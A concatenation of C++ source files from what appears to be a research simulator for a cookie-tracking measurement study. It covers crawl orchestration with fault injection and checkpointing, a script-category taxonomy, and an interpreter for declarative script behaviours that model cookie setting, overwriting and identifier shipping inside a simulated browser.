  int total_retries = 0;
  /// Per-failure-class counts, indexed by fault::FailureClass.
  std::array<int, fault::kFailureClassCount> attempt_failures{};
  std::array<int, fault::kFailureClassCount> exclusions{};
  /// Ranks retained for analysis, in rank order.
  std::vector<int> retained_ranks;

  double exclusion_rate() const {
    return sites_attempted > 0
               ? static_cast<double>(sites_excluded) / sites_attempted
               : 0.0;
  }
  /// Initially-failed sites = recovered + excluded (every excluded site
  /// failed its first attempt; every recovery did too).
  double recovery_rate() const {
    const int initially_failed = sites_recovered + sites_excluded;
    return initially_failed > 0
               ? static_cast<double>(sites_recovered) / initially_failed
               : 0.0;
  }

  report::Json to_json() const;
};

/// Crash-safe snapshot of crawl progress: everything needed to continue a
/// killed crawl and land on the identical retained-site set. Serialised via
/// report/json; per-site determinism makes the resume exact.
struct CrawlCheckpoint {
  int next_index = 0;    // sites [0, next_index) are accounted in `health`
  int target_count = 0;  // the crawl's total site count
  std::uint64_t corpus_seed = 0;
  std::uint64_t fault_seed = 0;  // 0 = faults disabled
  CrawlHealth health;

  std::string to_json_string() const;
  static std::optional<CrawlCheckpoint> from_json_string(
      std::string_view text);
};

class Crawler {
 public:
  explicit Crawler(const corpus::Corpus& corpus) : corpus_(corpus) {}

  /// Visits site `index` (0-based) and returns its log. Single clean visit:
  /// the fault layer never applies here — this is the measurement content
  /// of a site independent of crawl-pipeline weather.
  instrument::VisitLog visit(int index, const CrawlOptions& options = {}) const;

  /// Crawls sites [0, count) streaming each site's final VisitLog into
  /// `sink` (logs are not retained — the 20k-site crawl would not fit in
  /// memory). Retries faulted sites per the options; excluded sites still
  /// reach the sink, tagged with their failure class. Negative counts crawl
  /// nothing.
  CrawlHealth crawl(int count, const CrawlOptions& options,
                    const std::function<void(instrument::VisitLog&&)>& sink)
      const;

  /// Continues a checkpointed crawl from `checkpoint.next_index` to its
  /// target count. The checkpoint's accounting carries over, so the final
  /// CrawlHealth (retained set included) matches an uninterrupted run
  /// byte-for-byte when options and corpus agree.
  CrawlHealth resume(const CrawlCheckpoint& checkpoint,
                     const CrawlOptions& options,
                     const std::function<void(instrument::VisitLog&&)>& sink)
      const;

  /// The fault plan `options` resolves to (explicit plan, shim default, or
  /// disabled) — exposed so benches and tests can inspect the schedule.
  fault::FaultPlan plan_for(const CrawlOptions& options) const;

  const corpus::Corpus& corpus() const { return corpus_; }

 private:
  CrawlHealth crawl_range(int first, int count, CrawlHealth health,
                          const CrawlOptions& options,
                          const std::function<void(instrument::VisitLog&&)>&
                              sink) const;

  /// One attempt at a site: a fresh browser with the attempt's faults
  /// armed. `clock_shift_ms` carries the accumulated retry backoff.
  instrument::VisitLog attempt_visit(int index, const CrawlOptions& options,
                                     const fault::FaultDecision& decision,
                                     TimeMillis clock_shift_ms,
                                     int attempt) const;

  const corpus::Corpus& corpus_;
};

}  // namespace cg::crawler
