// Crawl driver: reproduces the paper's data-collection pipeline (§4.2),
// hardened the way a production fleet has to be.
//
// For each site: launch a fresh browser (fresh profile) with the measurement
// extension preloaded, load the landing page, scroll, click up to three
// random same-site links with 2-second pauses, and collect the visit log.
//
// Visits can fail — the fault plan injects DNS failures, connect timeouts,
// stalled responses, truncated Set-Cookie headers, script-fetch failures,
// and extension crashes — so the pipeline retries each site with
// exponential backoff advanced on the virtual clock, abandons visits that
// blow the per-visit deadline, degrades failed visits to a partial VisitLog
// tagged with its failure class, and checkpoints progress so an interrupted
// crawl resumes to the exact retained-site set of an uninterrupted run.
// Sites still incomplete after the retry budget are excluded from analysis;
// with the default plan ~25% are, matching the paper's 14,917-of-20,000
// retention as an emergent property rather than a coin flip.
//
// The crawl is embarrassingly parallel — every site's RNG seed, virtual
// clock, and fault schedule derive from its index alone — so crawl() shards
// sites across a work-stealing pool (src/runtime/) and merges results on
// the calling thread in site-index order: an N-thread crawl delivers
// byte-identical logs, health, and analysis output to the 1-thread crawl
// (checkpoints differ only in their informational shard diagnostics).
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "browser/browser.h"
#include "corpus/corpus.h"
#include "corpus/corpus_view.h"
#include "ext/attribution.h"
#include "fault/fault.h"
#include "instrument/records.h"
#include "obs/trace.h"
#include "policy/partition_policy.h"
#include "report/json.h"

namespace cg::store {
class Writer;
class WaveChain;
}

namespace cg::crawler {

struct CrawlCheckpoint;

struct CrawlOptions {
  /// Extra extensions (e.g. CookieGuard) installed *before* the measurement
  /// recorder, so they filter what the recorder observes. Non-owning.
  std::vector<browser::Extension*> extra_extensions;
  browser::BrowserConfig browser_config;
  ext::AttributionMode attribution = ext::AttributionMode::kLastExternal;

  /// Cookie-partitioning policy installed on every browser the crawl
  /// creates (the defense bake-off's independent variable). kNone is the
  /// status-quo single jar, byte-identical to the pre-policy crawler;
  /// kCookieGuard keeps the jar identical too — pair it with per-worker
  /// CookieGuard extensions via extension_factory. Engines are stateless,
  /// so one shared instance serves every shard worker.
  policy::PolicyKind policy = policy::PolicyKind::kNone;

  /// Fault plan for the crawl. The default plan reproduces the paper's
  /// incomplete-log sites; the corpus seed is folded into the plan seed so
  /// distinct corpora fail differently. Reset to std::nullopt to disable
  /// faults entirely — e.g. for paired with/without-CookieGuard
  /// comparisons where both runs must align.
  std::optional<fault::FaultPlanParams> fault_plan = fault::FaultPlanParams{};

  /// Worker threads for crawl()/resume(): 1 = sequential (default), 0 = all
  /// hardware threads. Any thread count yields byte-identical results —
  /// each site's seed, clock, and fault schedule derive from its index, and
  /// the sharded runner merges sink/health/checkpoint effects on the
  /// calling thread in site-index order.
  int threads = 1;
  /// Bounded reorder window between shard workers and the in-order merger,
  /// in finished visits (backpressure). <= 0 picks a default.
  int result_queue_capacity = 0;
  /// Per-worker extensions for parallel crawls. Extensions are stateful, so
  /// sharded workers cannot share one instance: the factory is called once
  /// per worker (from that worker's thread) and returns the extensions that
  /// worker installs before the recorder on every browser it creates. The
  /// caller keeps ownership, must keep them alive for the whole crawl, and
  /// must not hand one instance to two workers. Extensions whose *behavior*
  /// is deterministic per visit (CookieGuard resets its metadata store each
  /// visit) preserve the byte-identical guarantee. When unset while
  /// `extra_extensions` is non-empty, the crawl falls back to one thread
  /// rather than race the shared instances.
  std::function<std::vector<browser::Extension*>(int worker)>
      extension_factory;

  /// Retries per site beyond the first attempt.
  int max_retries = 2;
  /// Exponential backoff between attempts — base doubles per retry, plus
  /// deterministic per-site jitter — advanced on the virtual clock.
  TimeMillis backoff_base_ms = 60'000;
  TimeMillis backoff_jitter_ms = 20'000;
  /// A visit whose simulated duration exceeds this is abandoned
  /// (kDeadlineExceeded). Generous against the timing model's worst case.
  TimeMillis visit_deadline_ms = 180'000;

  /// Emit a checkpoint to on_checkpoint every N completed sites (0 = off).
  int checkpoint_interval = 0;
  std::function<void(const CrawlCheckpoint&)> on_checkpoint;
  /// Invoked after each site completes (retained or excluded), exactly once
  /// per site in index order regardless of retries: (completed, total).
  std::function<void(int, int)> on_progress;

  /// Observability sinks (non-owning; null = that channel is off, and the
  /// crawl pays only a thread-local pointer test per would-be event).
  ///
  /// `trace` receives the virtual-time trace: per-site spans, attempts,
  /// faults, backoff, checkpoints — plus event-loop/navigation/CookieGuard
  /// events at Detail::kFull. Each site fills a private buffer on its shard
  /// worker; the merge thread appends buffers in site-index order, so the
  /// exported trace is byte-identical at any thread count (unless the
  /// recorder captures wall clocks).
  obs::TraceRecorder* trace = nullptr;
  /// `metrics` receives the site-merged deterministic registry (crawl.*,
  /// eventloop.*, browser.*, cookieguard.* counters and histograms) —
  /// byte-identical serialization at any thread count.
  obs::MetricsRegistry* metrics = nullptr;
  /// `scheduler_metrics` receives scheduler diagnostics (steal counts,
  /// merge-window occupancy/backpressure). These legitimately vary with
  /// thread count and OS timing, which is why they live in a separate
  /// registry instead of polluting the deterministic one.
  obs::MetricsRegistry* scheduler_metrics = nullptr;

  /// CGAR archive receiving every site's visit log (src/store/), retained
  /// and excluded alike — replaying the archive through an Analyzer
  /// reproduces the live crawl's analysis byte-for-byte. Blocks are encoded
  /// on the shard worker that crawled the site (the expensive half) and
  /// appended by the merge thread in site-index order, so the archive is
  /// byte-identical at any thread count. Non-owning; the caller calls
  /// Writer::finish() after the crawl returns.
  store::Writer* archive = nullptr;

  /// Longitudinal delta packing: when set (with `archive`, whose options
  /// must say kind == kDelta and carry the chain tail's BaseProvenance),
  /// each site's log is encoded as a wave block against this chain's
  /// newest wave — byte-identical logs become zero-byte inherited footer
  /// entries, changed sites become kDelta diff blocks. Base payloads are
  /// materialized on the shard worker (the chain is immutable and
  /// thread-safe); a base block that fails to materialize degrades the
  /// site to a self-contained raw delta rather than poisoning the wave.
  /// Checkpoint resume is not supported for delta packs (resume counts
  /// site blocks only). Non-owning.
  const store::WaveChain* delta_base = nullptr;
};

/// Aggregate crawl-pipeline accounting. Byte-identical across runs of the
/// same corpus seed + fault-plan seed (serialise with to_json().dump()).
struct CrawlHealth {
  int sites_attempted = 0;
  int sites_retained = 0;
  int sites_excluded = 0;
  /// Retained despite script-fetch failures (degraded visits).
  int sites_degraded = 0;
  /// Failed at least one attempt but retained after a retry.
  int sites_recovered = 0;
  int total_attempts = 0;
  int total_retries = 0;
  /// Per-failure-class counts, indexed by fault::FailureClass.
  std::array<int, fault::kFailureClassCount> attempt_failures{};
  std::array<int, fault::kFailureClassCount> exclusions{};
  /// Ranks retained for analysis, in rank order.
  std::vector<int> retained_ranks;

  double exclusion_rate() const {
    return sites_attempted > 0
               ? static_cast<double>(sites_excluded) / sites_attempted
               : 0.0;
  }
  /// Initially-failed sites = recovered + excluded (every excluded site
  /// failed its first attempt; every recovery did too).
  double recovery_rate() const {
    const int initially_failed = sites_recovered + sites_excluded;
    return initially_failed > 0
               ? static_cast<double>(sites_recovered) / initially_failed
               : 0.0;
  }

  /// Folds a later shard's accounting into this one: counters add,
  /// retained ranks concatenate in order. Folding per-site deltas in
  /// site-index order reproduces the sequential accounting exactly.
  void merge(const CrawlHealth& other);

  report::Json to_json() const;
};

/// One site's final outcome: the log delivered to the sink plus the site's
/// own CrawlHealth contribution. The crawl — sequential or sharded — folds
/// these in site-index order, which is what makes an N-thread crawl
/// byte-identical to the 1-thread crawl.
struct SiteOutcome {
  instrument::VisitLog log;
  CrawlHealth delta;
  /// The site's trace buffer + metrics registry, filled on the shard worker
  /// and flushed by the merge thread in site-index order. Null when
  /// observability is off.
  std::unique_ptr<obs::LocalObs> obs;
  /// What the shard worker encoded for the archive (merge thread appends
  /// in site-index order): a full site block, a delta-archive block, or an
  /// inherited rank (byte-identical to the base wave — footer entry only).
  enum class ArchiveKind { kNone, kSite, kDelta, kInherited };
  ArchiveKind archive_kind = ArchiveKind::kNone;
  /// The encoded block for kSite/kDelta (store::encode_site_block /
  /// store::make_wave_block); empty otherwise.
  std::string archive_block;
};

/// Crash-safe snapshot of crawl progress: everything needed to continue a
/// killed crawl and land on the identical retained-site set. Serialised via
/// report/json; per-site determinism makes the resume exact.
struct CrawlCheckpoint {
  int next_index = 0;    // sites [0, next_index) are accounted in `health`
  int target_count = 0;  // the crawl's total site count
  std::uint64_t corpus_seed = 0;
  std::uint64_t fault_seed = 0;  // 0 = faults disabled
  CrawlHealth health;

  /// Shard diagnostics from the emitting crawl: worker-thread count and
  /// sites completed per shard worker (beyond the merged prefix) at
  /// emission time. Purely informational — resume needs only the merged
  /// prefix in `next_index`/`health`, so a crawl checkpointed at one
  /// thread count resumes exactly at any other.
  int threads = 1;
  std::vector<int> shard_completed;

  /// Archive-segment reference, set when the crawl packs to a CGAR writer:
  /// site blocks flushed and bytes on disk at emission time. The checkpoint
  /// references the segment rather than inlining per-site records — resume
  /// hands `archive_sites` to store::Writer::resume(), which truncates any
  /// blocks written after the checkpoint so checkpoint + archive replay to
  /// exactly the uninterrupted crawl's archive. -1 = crawl did not pack.
  int archive_sites = -1;
  std::int64_t archive_bytes = 0;

  std::string to_json_string() const;
  static std::optional<CrawlCheckpoint> from_json_string(
      std::string_view text);
};

class Crawler {
 public:
  /// Any CorpusView works: a materialized Corpus, a StreamingCorpus
  /// (1M-site crawls), or an evolve::WaveCorpus. The crawler itself never
  /// holds more than the sites currently in flight.
  explicit Crawler(const corpus::CorpusView& corpus) : corpus_(corpus) {}

  /// Visits site `index` (0-based) and returns its log. Single clean visit:
  /// the fault layer never applies here — this is the measurement content
  /// of a site independent of crawl-pipeline weather.
  instrument::VisitLog visit(int index, const CrawlOptions& options = {}) const;

  /// Crawls sites [0, count) streaming each site's final VisitLog into
  /// `sink` (logs are not retained — the 20k-site crawl would not fit in
  /// memory). Retries faulted sites per the options; excluded sites still
  /// reach the sink, tagged with their failure class. Negative counts crawl
  /// nothing. With options.threads != 1 sites are sharded across a
  /// work-stealing pool; the sink still runs on the calling thread, once
  /// per site, in site-index order.
  CrawlHealth crawl(int count, const CrawlOptions& options,
                    const std::function<void(instrument::VisitLog&&)>& sink)
      const;

  /// Continues a checkpointed crawl from `checkpoint.next_index` to its
  /// target count. The checkpoint's accounting carries over, so the final
  /// CrawlHealth (retained set included) matches an uninterrupted run
  /// byte-for-byte when options and corpus agree.
  CrawlHealth resume(const CrawlCheckpoint& checkpoint,
                     const CrawlOptions& options,
                     const std::function<void(instrument::VisitLog&&)>& sink)
      const;

  /// The fault plan `options` resolves to (plan with the corpus seed folded
  /// in, or disabled) — exposed so benches and tests can inspect the
  /// schedule.
  fault::FaultPlan plan_for(const CrawlOptions& options) const;

  const corpus::CorpusView& corpus() const { return corpus_; }

 private:
  CrawlHealth crawl_range(int first, int count, CrawlHealth health,
                          const CrawlOptions& options,
                          const std::function<void(instrument::VisitLog&&)>&
                              sink) const;

  /// A site's full retry loop: attempts, backoff, and the site's health
  /// delta. Pure function of (index, options, plan) — safe to run on any
  /// shard worker. `extensions` are the worker's own instances.
  SiteOutcome crawl_site(int index, const CrawlOptions& options,
                         const fault::FaultPlan& plan,
                         const std::vector<browser::Extension*>& extensions)
      const;

  /// One attempt at a site: a fresh browser with the attempt's faults
  /// armed. `clock_shift_ms` carries the accumulated retry backoff. The
  /// caller fetches the SiteVisit once per site and reuses it across the
  /// retry loop (one generation per site even when streaming).
  instrument::VisitLog attempt_visit(const corpus::SiteVisit& visit,
                                     const CrawlOptions& options,
                                     const fault::FaultDecision& decision,
                                     const std::vector<browser::Extension*>&
                                         extensions,
                                     TimeMillis clock_shift_ms,
                                     int attempt) const;

  const corpus::CorpusView& corpus_;
};

}  // namespace cg::crawler
