// Identity and provenance of an executing script.
#pragma once

#include <string>
#include <vector>

namespace cg::script {

/// Script taxonomy used by the corpus and the analysis (paper §5.1 reports
/// 70% of third-party scripts are advertising/tracking-affiliated).
enum class Category {
  kFirstParty,
  kAnalytics,
  kAdvertising,
  kRtbExchange,
  kTagManager,
  kConsent,
  kSocial,
  kSso,
  kCdnUtility,
  kSupport,
  kPerformance,
};

const char* to_string(Category category);

/// True for categories the paper groups as "advertising or tracking".
bool is_ad_or_tracking(Category category);

/// How a script arrived in the main frame (paper §5.6: direct <script> tags
/// vs dynamic insertion by another script).
enum class Inclusion { kDirect, kIndirect };

struct ExecContext {
  std::string script_id;      // catalog id ("" for ad-hoc/test scripts)
  std::string script_url;     // resolved URL; empty for inline scripts
  std::string script_domain;  // eTLD+1 of script_url; empty for inline
  bool inline_script = false;
  Category category = Category::kFirstParty;
  Inclusion inclusion = Inclusion::kDirect;
  /// Catalog ids of the scripts that (transitively) included this one,
  /// outermost first. Empty for directly included scripts.
  std::vector<std::string> inclusion_chain;
};

}  // namespace cg::script
