// A catalog script: URL, category, and behaviour program.
#pragma once

#include <string>
#include <vector>

#include "script/exec_context.h"
#include "script/ops.h"

namespace cg::script {

struct ScriptSpec {
  /// Stable catalog id, e.g. "ga" or "fp-app".
  std::string id;
  /// Script URL. First-party scripts use the placeholder "{site}" for the
  /// visited host, e.g. "https://{site}/assets/app.js".
  std::string url_template;
  Category category = Category::kFirstParty;
  /// Inline scripts have no URL at all (attribution blind spot, §6.1).
  bool is_inline = false;
  std::vector<ScriptOp> ops;
};

}  // namespace cg::script
