// Declarative script behaviours.
//
// Instead of a JavaScript engine, every catalog script is a small program of
// ScriptOps whose *effects* match what the paper observed real scripts doing:
// setting/reading cookies through either API, overwriting and deleting other
// parties' cookies, parsing identifiers out of cookie values and shipping
// them to third-party endpoints, injecting further scripts, and touching the
// DOM. The interpreter executes ops through the page's real API surface, so
// interception layers (measurement extension, CookieGuard) see exactly what
// they would see in a browser.
#pragma once

#include <string>
#include <vector>

#include "net/clock.h"

namespace cg::script {

enum class OpKind {
  /// document.cookie = "<name>=<value-template><attributes>"
  kSetCookie,
  /// cookieStore.set(name, value) — async (runs as a microtask).
  kStoreSetCookie,
  /// Read document.cookie and remember the result (models bulk access).
  kReadCookies,
  /// cookieStore.getAll() — async read.
  kStoreGetAll,
  /// cookieStore.get(name) — async single-cookie read.
  kStoreGet,
  /// Read the jar, then rewrite each target cookie that is visible with a
  /// fresh value (cross-domain overwriting when the target isn't ours).
  kOverwriteCookie,
  /// document.cookie = "<name>=; Expires=<past>" for each target name.
  kDeleteCookie,
  /// cookieStore.delete(name).
  kStoreDeleteCookie,
  /// Read the jar, extract identifier segments from target cookies (or the
  /// whole jar), encode them, and send them in a request's query string.
  kExfiltrate,
  /// Plain tracking beacon carrying no cookie-derived payload.
  kSendBeacon,
  /// Dynamically insert another catalog script into the main frame
  /// (indirect inclusion, §5.6).
  kInjectScript,
  /// Modify a DOM node created by someone else (pilot study, §8).
  kModifyDom,
  /// Create and insert a DOM element owned by this script.
  kCreateDomElement,
  /// Run nested ops later via setTimeout — exercises async attribution.
  kAsync,
};

enum class Encoding { kRaw, kBase64, kBase64Url, kMd5, kSha1 };

const char* to_string(OpKind kind);
const char* to_string(Encoding encoding);

/// One operation. Fields are interpreted per kind; unused fields stay empty.
struct ScriptOp {
  OpKind kind = OpKind::kReadCookies;

  /// kSetCookie / kStoreSetCookie: cookie name.
  std::string cookie_name;
  /// Value template. Placeholders: {ts} seconds, {ts_ms} millis,
  /// {rand:N} N decimal digits, {hex:N} N hex chars.
  std::string value_template;
  /// Raw attribute suffix appended to document.cookie writes,
  /// e.g. "; Path=/; Max-Age=63072000".
  std::string attributes;
  /// Only set the cookie if a cookie of this name is not already visible.
  bool only_if_missing = false;

  /// kOverwriteCookie / kDeleteCookie / kExfiltrate: victim cookie names.
  std::vector<std::string> target_cookie_names;

  /// kExfiltrate / kSendBeacon: destination endpoint.
  std::string dest_host;
  std::string dest_path = "/collect";
  Encoding encoding = Encoding::kRaw;
  /// kExfiltrate: ship every visible cookie (RTB bid-request style) instead
  /// of only target_cookie_names.
  bool exfiltrate_whole_jar = false;

  /// kInjectScript: catalog id of the script to insert.
  std::string inject_script_id;

  /// kAsync: delay and nested program.
  TimeMillis delay_ms = 0;
  std::vector<ScriptOp> nested;
  /// kAsync: when non-empty, the callback executes through a helper script
  /// at this URL (e.g. a utility library), so a synchronous stack trace
  /// shows the helper — the attribution gap of paper §8.
  std::string helper_script_url;

  /// kModifyDom / kCreateDomElement.
  std::string dom_tag = "div";
};

// ---- tiny builder helpers (keep catalog definitions readable) -----------

ScriptOp set_cookie(std::string name, std::string value_template,
                    std::string attributes = "; Path=/; Max-Age=63072000",
                    bool only_if_missing = true);
ScriptOp store_set_cookie(std::string name, std::string value_template);
ScriptOp read_cookies();
ScriptOp store_get_all();
ScriptOp store_get(std::string name);
ScriptOp overwrite(std::vector<std::string> targets,
                   std::string value_template,
                   std::string attributes = "; Path=/; Max-Age=63072000");
ScriptOp delete_cookies(std::vector<std::string> targets);
ScriptOp store_delete(std::string name);
ScriptOp exfiltrate(std::vector<std::string> targets, std::string dest_host,
                    Encoding encoding = Encoding::kRaw,
                    std::string dest_path = "/collect");
ScriptOp exfiltrate_jar(std::string dest_host,
                        Encoding encoding = Encoding::kRaw,
                        std::string dest_path = "/bid");
ScriptOp beacon(std::string dest_host, std::string dest_path = "/ping");
ScriptOp inject(std::string script_id);
ScriptOp modify_dom(std::string tag = "div");
ScriptOp create_dom(std::string tag = "div");
ScriptOp run_async(TimeMillis delay_ms, std::vector<ScriptOp> nested,
                   std::string helper_script_url = "");

}  // namespace cg::script
