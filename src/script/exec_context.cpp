#include "script/exec_context.h"

namespace cg::script {

const char* to_string(Category category) {
  switch (category) {
    case Category::kFirstParty:
      return "first-party";
    case Category::kAnalytics:
      return "analytics";
    case Category::kAdvertising:
      return "advertising";
    case Category::kRtbExchange:
      return "rtb-exchange";
    case Category::kTagManager:
      return "tag-manager";
    case Category::kConsent:
      return "consent";
    case Category::kSocial:
      return "social";
    case Category::kSso:
      return "sso";
    case Category::kCdnUtility:
      return "cdn-utility";
    case Category::kSupport:
      return "support";
    case Category::kPerformance:
      return "performance";
  }
  return "unknown";
}

bool is_ad_or_tracking(Category category) {
  switch (category) {
    case Category::kAnalytics:
    case Category::kAdvertising:
    case Category::kRtbExchange:
    case Category::kSocial:
      return true;
    default:
      return false;
  }
}

}  // namespace cg::script
