// The API surface a page exposes to scripts.
//
// The interpreter only ever touches the page through this interface, which
// the browser implements. Because the measurement extension and CookieGuard
// interpose on the browser's implementation, scripts cannot tell whether
// they are being observed or filtered — same as a real extension wrapping
// document.cookie with Object.defineProperty (paper §4.1, §6.2).
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "net/clock.h"
#include "net/url.h"
#include "script/exec_context.h"
#include "script/rng.h"
#include "webplat/dom.h"

namespace cg::script {

/// Structured cookie object as returned by cookieStore.getAll().
struct StoreCookie {
  std::string name;
  std::string value;
};

class PageServices {
 public:
  virtual ~PageServices() = default;

  // --- document.cookie -----------------------------------------------
  virtual std::string document_cookie_read(const ExecContext& ctx) = 0;
  virtual void document_cookie_write(const ExecContext& ctx,
                                     std::string_view cookie_line) = 0;

  // --- cookieStore (async: callbacks run as microtasks) ---------------
  virtual void cookie_store_get_all(
      const ExecContext& ctx,
      std::function<void(std::vector<StoreCookie>)> callback) = 0;
  /// cookieStore.get(name): resolves with the cookie if visible, else
  /// nullopt (paper §2.3 documents both accessors).
  virtual void cookie_store_get(
      const ExecContext& ctx, std::string_view name,
      std::function<void(std::optional<StoreCookie>)> callback) = 0;
  virtual void cookie_store_set(const ExecContext& ctx, std::string_view name,
                                std::string_view value) = 0;
  virtual void cookie_store_delete(const ExecContext& ctx,
                                   std::string_view name) = 0;

  // --- network ----------------------------------------------------------
  virtual void send_request(const ExecContext& ctx, const net::Url& url) = 0;

  // --- script inclusion / scheduling -------------------------------------
  virtual void inject_script(const ExecContext& includer,
                             std::string_view script_id) = 0;
  /// setTimeout: `callback` runs after `delay_ms`. When `helper_script_url`
  /// is non-empty the callback executes through that helper script, so the
  /// synchronous stack bottom belongs to the helper (paper §8 async gap).
  virtual void set_timeout(const ExecContext& ctx, TimeMillis delay_ms,
                           std::function<void()> callback,
                           std::string_view helper_script_url) = 0;

  // --- environment --------------------------------------------------------
  virtual webplat::Document& main_document() = 0;
  virtual TimeMillis now() const = 0;
  virtual Rng& rng() = 0;
};

}  // namespace cg::script
