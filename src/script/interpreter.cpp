#include "script/interpreter.h"

#include <cctype>
#include <cstdlib>

#include "crypto/base64.h"
#include "crypto/md5.h"
#include "crypto/sha1.h"
#include "net/query.h"

namespace cg::script {
namespace {

constexpr std::string_view kPastDate = "Thu, 01 Jan 1970 00:00:00 GMT";

// Returns the name of each cookie visible in `jar_string`.
bool jar_has_cookie(const std::vector<StoreCookie>& jar,
                    std::string_view name) {
  for (const auto& c : jar) {
    if (c.name == name) return true;
  }
  return false;
}

const StoreCookie* jar_find(const std::vector<StoreCookie>& jar,
                            std::string_view name) {
  for (const auto& c : jar) {
    if (c.name == name) return &c;
  }
  return nullptr;
}

// Destination hosts may use "{site}" for the visited page's host
// (first-party endpoints, e.g. a site's own /api/telemetry).
std::string resolve_host(const std::string& host_template,
                         PageServices& services) {
  const auto pos = host_template.find("{site}");
  if (pos == std::string::npos) return host_template;
  std::string out = host_template;
  out.replace(pos, 6, services.main_document().url().host());
  return out;
}

void exfiltrate_cookies(const ScriptOp& op, const ExecContext& ctx,
                        PageServices& services,
                        const std::vector<StoreCookie>& cookies) {
  std::vector<net::QueryParam> params;
  for (const auto& cookie : cookies) {
    const auto segments = extract_identifier_segments(cookie.value);
    std::size_t index = 0;
    for (const auto& segment : segments) {
      std::string key = cookie.name;
      if (index > 0) {
        // Append piecewise: `+= "_" + to_string(...)` trips the GCC 12
        // -Wrestrict false positive (PR 105329) under warnings-as-errors.
        key += '_';
        key += std::to_string(index);
      }
      params.push_back({std::move(key), encode_identifier(segment, op.encoding)});
      ++index;
    }
  }
  if (params.empty()) return;  // nothing harvested — no request
  params.push_back({"t", std::to_string(services.now())});

  net::Url dest = net::Url::must_parse("https://" +
                                       resolve_host(op.dest_host, services) +
                                       (op.dest_path.empty() ? "/collect"
                                                             : op.dest_path));
  std::string query = "?";
  query += net::build_query(params);
  dest = dest.resolve(query);
  services.send_request(ctx, dest);
}

void run_op(const ScriptOp& op, const ExecContext& ctx,
            PageServices& services) {
  switch (op.kind) {
    case OpKind::kSetCookie: {
      if (op.only_if_missing) {
        const auto jar =
            parse_cookie_string(services.document_cookie_read(ctx));
        if (jar_has_cookie(jar, op.cookie_name)) break;
      }
      const std::string value =
          expand_template(op.value_template, services.rng(), services.now());
      services.document_cookie_write(
          ctx, op.cookie_name + "=" + value + op.attributes);
      break;
    }

    case OpKind::kStoreSetCookie: {
      const std::string value =
          expand_template(op.value_template, services.rng(), services.now());
      services.cookie_store_set(ctx, op.cookie_name, value);
      break;
    }

    case OpKind::kReadCookies:
      services.document_cookie_read(ctx);
      break;

    case OpKind::kStoreGetAll:
      services.cookie_store_get_all(ctx, [](std::vector<StoreCookie>) {});
      break;

    case OpKind::kStoreGet:
      services.cookie_store_get(ctx, op.cookie_name,
                                [](std::optional<StoreCookie>) {});
      break;

    case OpKind::kOverwriteCookie: {
      const auto jar = parse_cookie_string(services.document_cookie_read(ctx));
      for (const auto& target : op.target_cookie_names) {
        if (!jar_has_cookie(jar, target)) continue;
        const std::string value =
            expand_template(op.value_template, services.rng(), services.now());
        services.document_cookie_write(ctx,
                                       target + "=" + value + op.attributes);
      }
      break;
    }

    case OpKind::kDeleteCookie: {
      const auto jar = parse_cookie_string(services.document_cookie_read(ctx));
      for (const auto& target : op.target_cookie_names) {
        if (!jar_has_cookie(jar, target)) continue;
        services.document_cookie_write(
            ctx, target + "=; Path=/; Expires=" + std::string(kPastDate));
      }
      break;
    }

    case OpKind::kStoreDeleteCookie:
      services.cookie_store_delete(ctx, op.cookie_name);
      break;

    case OpKind::kExfiltrate: {
      const auto jar = parse_cookie_string(services.document_cookie_read(ctx));
      std::vector<StoreCookie> selected;
      if (op.exfiltrate_whole_jar) {
        selected = jar;
      } else {
        for (const auto& target : op.target_cookie_names) {
          if (const auto* c = jar_find(jar, target)) selected.push_back(*c);
        }
      }
      exfiltrate_cookies(op, ctx, services, selected);
      break;
    }

    case OpKind::kSendBeacon: {
      const net::Url dest = net::Url::must_parse(
          "https://" + resolve_host(op.dest_host, services) + op.dest_path +
          "?t=" + std::to_string(services.now()));
      services.send_request(ctx, dest);
      break;
    }

    case OpKind::kInjectScript:
      services.inject_script(ctx, op.inject_script_id);
      break;

    case OpKind::kModifyDom: {
      auto& document = services.main_document();
      // Find a node created by someone else; fall back to the body.
      webplat::Node* victim = &document.body();
      for (auto* node : document.elements_by_tag(op.dom_tag)) {
        if (node->creator_domain() != ctx.script_domain) {
          victim = node;
          break;
        }
      }
      document.set_text(*victim, "modified", ctx.script_domain);
      break;
    }

    case OpKind::kCreateDomElement: {
      auto& document = services.main_document();
      auto& node = document.create_element(op.dom_tag, ctx.script_domain);
      document.append_child(document.body(), node, ctx.script_domain);
      break;
    }

    case OpKind::kAsync: {
      // Copy the nested program and context into the closure: the op may
      // outlive the catalog reference that produced it.
      std::vector<ScriptOp> nested = op.nested;
      ExecContext nested_ctx = ctx;
      PageServices* svc = &services;
      services.set_timeout(
          ctx, op.delay_ms,
          [nested = std::move(nested), nested_ctx, svc]() {
            run_program(nested, nested_ctx, *svc);
          },
          op.helper_script_url);
      break;
    }
  }
}

}  // namespace

std::string expand_template(std::string_view tpl, Rng& rng, TimeMillis now) {
  std::string out;
  out.reserve(tpl.size() + 16);
  std::size_t i = 0;
  while (i < tpl.size()) {
    if (tpl[i] != '{') {
      out.push_back(tpl[i++]);
      continue;
    }
    const auto close = tpl.find('}', i);
    if (close == std::string_view::npos) {
      out.append(tpl.substr(i));
      break;
    }
    const std::string_view token = tpl.substr(i + 1, close - i - 1);
    if (token == "ts") {
      out += std::to_string(now / 1000);
    } else if (token == "ts_ms") {
      out += std::to_string(now);
    } else if (token.starts_with("rand:")) {
      const int n = std::atoi(std::string(token.substr(5)).c_str());
      out += rng.digits(n > 0 ? static_cast<std::size_t>(n) : 1);
    } else if (token.starts_with("hex:")) {
      const int n = std::atoi(std::string(token.substr(4)).c_str());
      out += rng.hex(n > 0 ? static_cast<std::size_t>(n) : 1);
    } else {
      out.append(tpl.substr(i, close - i + 1));  // unknown: verbatim
    }
    i = close + 1;
  }
  return out;
}

std::vector<StoreCookie> parse_cookie_string(std::string_view cookie_string) {
  std::vector<StoreCookie> out;
  std::size_t pos = 0;
  while (pos < cookie_string.size()) {
    auto semi = cookie_string.find(';', pos);
    if (semi == std::string_view::npos) semi = cookie_string.size();
    std::string_view pair = cookie_string.substr(pos, semi - pos);
    while (!pair.empty() && pair.front() == ' ') pair.remove_prefix(1);
    if (!pair.empty()) {
      const auto eq = pair.find('=');
      if (eq == std::string_view::npos) {
        out.push_back({std::string(pair), ""});
      } else {
        out.push_back({std::string(pair.substr(0, eq)),
                       std::string(pair.substr(eq + 1))});
